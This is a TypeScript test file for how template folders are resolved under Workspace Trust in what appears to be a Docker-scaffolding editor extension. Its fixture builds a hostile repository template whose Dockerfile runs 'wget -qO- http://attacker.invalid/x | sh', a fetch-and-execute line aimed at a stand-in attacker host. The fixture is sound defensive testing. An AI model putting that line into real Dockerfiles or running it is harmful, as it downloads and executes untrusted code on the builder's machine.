/**
 * Which template folders apply given Workspace Trust (src/templates/templateRoots.ts), and
 * what that means for the catalog "Add Docker Files" offers: in Restricted Mode a
 * repository's own `greet` never replaces the bundled one.
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, describe, it } from 'node:test';
import { loadCatalog } from '../../src/templates/catalog';
import { loadTemplates } from '../../src/templates/templateCatalog';
import { resolveTemplatePaths, templateRootsFor } from '../../src/templates/templateRoots';

const repoRoot = path.resolve(__dirname, '..', '..', '..');
const templatesDir = path.join(repoRoot, 'templates');

const workspace = fs.mkdtempSync(path.join(os.tmpdir(), 'cw-template-roots-'));
after(() => fs.rmSync(workspace, { recursive: true, force: true }));

/** A hostile repository: `.templates/greet` claims the bundled id with files of its own. */
function hostileTemplates(): string {
  const folder = path.join(workspace, '.templates', 'greet');
  fs.mkdirSync(folder, { recursive: true });
  fs.writeFileSync(path.join(folder, 'Dockerfile'), 'FROM busybox\nRUN wget -qO- http://attacker.invalid/x | sh\n');
  fs.writeFileSync(
    path.join(folder, 'template.json'),
    JSON.stringify({
      id: 'greet',
      name: 'Greet: hello world',
      description: 'Looks like the bundled one.',
      files: ['Dockerfile'],
      dockerfile: 'Dockerfile',
    }),
  );
  return '.templates';
}

describe('template roots and Workspace Trust', () => {
  const context = { home: '/home/someone', workspaceFolder: '/work/repo' };

  it('resolves ~ and workspace-relative paths, and ignores what is not a list of strings', () => {
    assert.deepEqual(resolveTemplatePaths(['~/tpl', ' ~ ', 'rel/dir', '/abs/dir', '', '  ', 7, null], context), [
      '/home/someone/tpl',
      '/home/someone',
      '/work/repo/rel/dir',
      '/abs/dir',
    ]);
    assert.deepEqual(resolveTemplatePaths('/a/string/is/not/a/list', context), []);
    assert.deepEqual(resolveTemplatePaths(undefined, context), []);
    assert.deepEqual(resolveTemplatePaths(['rel'], { home: '/h' }), ['rel'], 'without a workspace folder a relative path stays as it is');
    assert.deepEqual(resolveTemplatePaths(['~user/x'], context), ['/work/repo/~user/x'], 'only ~ alone or ~/ is the home folder');
  });

  it('trusted: the configured folders apply, nothing is withheld', () => {
    assert.deepEqual(templateRootsFor(['~/tpl', 'rel'], { ...context, trusted: true }), {
      userRoots: ['/home/someone/tpl', '/work/repo/rel'],
      withheld: [],
    });
  });

  it('Restricted Mode: none of the configured folders apply (they are reported as withheld)', () => {
    assert.deepEqual(templateRootsFor(['~/tpl', 'rel'], { ...context, trusted: false }), {
      userRoots: [],
      withheld: ['/home/someone/tpl', '/work/repo/rel'],
    });
    assert.deepEqual(templateRootsFor([], { ...context, trusted: false }), { userRoots: [], withheld: [] });
  });

  it("in Restricted Mode the catalog keeps the bundled greet; trusted, the folder's greet replaces it (as the setting says)", () => {
    const configured = [hostileTemplates()];
    const bundledGreet = path.join(templatesDir, 'greet');

    const restricted = templateRootsFor(configured, { home: os.homedir(), workspaceFolder: workspace, trusted: false });
    const untrustedGreet = loadTemplates(repoRoot, restricted.userRoots).templates.find((t) => t.id === 'greet');
    assert.equal(untrustedGreet?.folder, bundledGreet);
    assert.equal(untrustedGreet?.builtIn, true);
    assert.deepEqual(restricted.withheld, [path.join(workspace, '.templates')]);

    const trusted = templateRootsFor(configured, { home: os.homedir(), workspaceFolder: workspace, trusted: true });
    const trustedGreet = loadCatalog(templatesDir, trusted.userRoots).templates.find((t) => t.id === 'greet');
    assert.equal(trustedGreet?.folder, path.join(workspace, '.templates', 'greet'));
    assert.equal(trustedGreet?.builtIn, false);
  });
});
